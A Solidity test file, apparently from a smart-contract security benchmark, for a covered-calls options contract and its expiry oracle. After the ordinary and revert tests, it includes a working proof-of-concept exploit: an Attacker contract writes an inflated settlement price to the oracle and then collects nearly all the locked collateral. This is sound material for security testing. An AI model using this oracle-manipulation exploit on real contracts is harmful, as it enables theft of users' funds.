// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./CoveredCalls.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-eb40cde0-de07-4ce0-a782-72e32929224b

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20("Token", "TKN") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant RELAY = address(0x2E1A);
    address internal constant KEEPER = address(0x4EE9);
    uint256 internal constant START = 1_765_000_000;
    uint256 internal constant EXPIRY = START + 7 days;
    uint256 internal constant LOCKED = 850e18;

    Token internal weth;
    Token internal wbtc;
    ExpiryOracle internal oracle;
    CoveredCalls internal options;
    Attacker internal holder;

    function setUp() public {
        vm.warp(START);
        weth = new Token();
        wbtc = new Token();
        oracle = new ExpiryOracle(address(this));
        options = new CoveredCalls(oracle, address(this));
        oracle.setSource(address(weth), PriceSources.Kind.Relayed, RELAY);
        oracle.setSource(address(wbtc), PriceSources.Kind.Reported, KEEPER);
        options.openSeries(address(weth), 3_600e8, EXPIRY);
        options.openSeries(address(wbtc), 90_000e8, EXPIRY);

        weth.mint(address(this), LOCKED);
        wbtc.mint(address(this), 10e18);
        weth.approve(address(options), LOCKED);
        wbtc.approve(address(options), 10e18);
        options.lock(0, LOCKED);
        options.lock(1, 10e18);

        // sold at the weekly auction, far out of the money
        holder = new Attacker(oracle, options, address(weth));
        options.transferLong(0, address(holder), LOCKED);
    }

    function test_Regular() public {
        vm.prank(RELAY);
        (bool ok,) = address(oracle).call(abi.encodeCall(ExpiryOracle.write, (address(weth), EXPIRY, 4_000e18)));
        require(!ok, "before expiry");
        vm.warp(EXPIRY + 1 minutes);
        vm.prank(RELAY);
        oracle.write(address(weth), EXPIRY, 4_000e18);
        (ok,) = address(oracle).call(abi.encodeCall(ExpiryOracle.write, (address(wbtc), EXPIRY, 80_000e8)));
        require(!ok, "not the keeper");
        vm.prank(KEEPER);
        oracle.write(address(wbtc), EXPIRY, 80_000e8);
        vm.prank(KEEPER);
        (ok,) = address(oracle).call(abi.encodeCall(ExpiryOracle.write, (address(wbtc), EXPIRY, 90_000e8)));
        require(!ok, "second price");
        oracle.dispute(address(wbtc), EXPIRY, 100_000e8);
        (ok,) = address(options).call(abi.encodeCall(CoveredCalls.settle, (0)));
        require(!ok, "before the disputes are over");

        vm.warp(EXPIRY + 3 hours);
        require(options.settle(0) == (LOCKED * 9) / 10, "short side");
        require(options.settle(1) == 10e18, "both sides");
        vm.prank(address(holder));
        require(options.settle(0) == LOCKED / 10, "long side");
        require(weth.balanceOf(address(options)) == 0, "books");

        oracle.transferOwnership(KEEPER);
        options.transferOwnership(KEEPER);
        vm.prank(KEEPER);
        oracle.renounceOwnership();
        vm.prank(KEEPER);
        options.renounceOwnership();
        require(oracle.owner() == address(0) && options.owner() == address(0), "given up");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The owner's business.
    function test_RefusesStrangers() public {
        bytes memory stranger = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, KEEPER);
        refuses(KEEPER, stranger);
        oracle.setSource(address(wbtc), PriceSources.Kind.Reported, KEEPER);
        refuses(KEEPER, stranger);
        options.openSeries(address(wbtc), 1, EXPIRY);
        vm.expectRevert(abi.encodeWithSelector(CoveredCalls.Expired.selector, block.timestamp));
        options.openSeries(address(wbtc), 1, block.timestamp);
        vm.warp(EXPIRY);
        refuses(RELAY, abi.encodeWithSelector(ExpiryOracle.NotWriter.selector, address(wbtc), RELAY));
        oracle.write(address(wbtc), EXPIRY, 80_000e8);
        vm.prank(KEEPER);
        oracle.write(address(wbtc), EXPIRY, 80_000e8);
        refuses(KEEPER, abi.encodeWithSelector(ExpiryOracle.AlreadyWritten.selector, address(wbtc), EXPIRY));
        oracle.write(address(wbtc), EXPIRY, 80_000e8);
        refuses(KEEPER, stranger);
        oracle.dispute(address(wbtc), EXPIRY, 1);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.NoPrice.selector, address(wbtc), EXPIRY));
        oracle.dispute(address(wbtc), EXPIRY, 0);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.NoPrice.selector, address(weth), EXPIRY));
        oracle.dispute(address(weth), EXPIRY, 1);
        vm.warp(EXPIRY + 2 hours + 1);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.DisputePeriodOver.selector, EXPIRY + 2 hours));
        oracle.dispute(address(wbtc), EXPIRY, 1);
    }

    /// Prices of assets that have a source, of its time, and that are some.
    function test_RefusesPrices() public {
        vm.prank(RELAY);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.NotExpired.selector, EXPIRY));
        oracle.write(address(weth), EXPIRY, 4_000e18);
        vm.warp(EXPIRY);
        vm.expectRevert(abi.encodeWithSelector(PriceSources.UnknownAsset.selector, address(this)));
        oracle.write(address(this), EXPIRY, 1);
        vm.prank(address(0));
        vm.expectRevert(abi.encodeWithSelector(PriceSources.UnknownAsset.selector, address(this)));
        oracle.write(address(this), EXPIRY, 1);
        refuses(KEEPER, abi.encodeWithSelector(ExpiryOracle.NotExpired.selector, START - 1));
        oracle.write(address(wbtc), START - 1, 1);
        refuses(KEEPER, abi.encodeWithSelector(ExpiryOracle.NoPrice.selector, address(wbtc), EXPIRY));
        oracle.write(address(wbtc), EXPIRY, 0);
        vm.warp(EXPIRY + 3 hours);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.NoPrice.selector, address(wbtc), EXPIRY));
        oracle.priceAt(address(wbtc), EXPIRY);
        vm.prank(KEEPER);
        oracle.write(address(wbtc), EXPIRY, 80_000e8);
        vm.expectRevert(abi.encodeWithSelector(ExpiryOracle.NotFinal.selector, address(wbtc), EXPIRY));
        oracle.priceAt(address(wbtc), EXPIRY);
    }

    /// Series that are over.
    function test_RefusesLocks() public {
        vm.warp(EXPIRY);
        vm.expectRevert(abi.encodeWithSelector(CoveredCalls.Expired.selector, EXPIRY));
        options.lock(0, 0);
    }

    function exploit() public {
        vm.warp(EXPIRY);
        holder.write(EXPIRY);
        vm.warp(EXPIRY + 2 hours + 1);
        holder.collect();
    }

    function test_Exploit() public {
        uint256 before = weth.balanceOf(address(holder));
        exploit();
        require(weth.balanceOf(address(holder)) >= before + 840e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(oracle);
    }

    function attacker() public view returns (address) {
        return address(holder);
    }

    function token() public view returns (address) {
        return address(weth);
    }
}

/// Holds calls nobody thought would pay, and writes the price they are settled with.
contract Attacker {
    ExpiryOracle internal oracle;
    CoveredCalls internal options;
    address internal asset;

    constructor(ExpiryOracle oracle_, CoveredCalls options_, address asset_) {
        oracle = oracle_;
        options = options_;
        asset = asset_;
    }

    function write(uint256 expiry) external {
        oracle.write(asset, expiry, 10_000_000e18);
    }

    function collect() external {
        options.settle(0);
    }
}
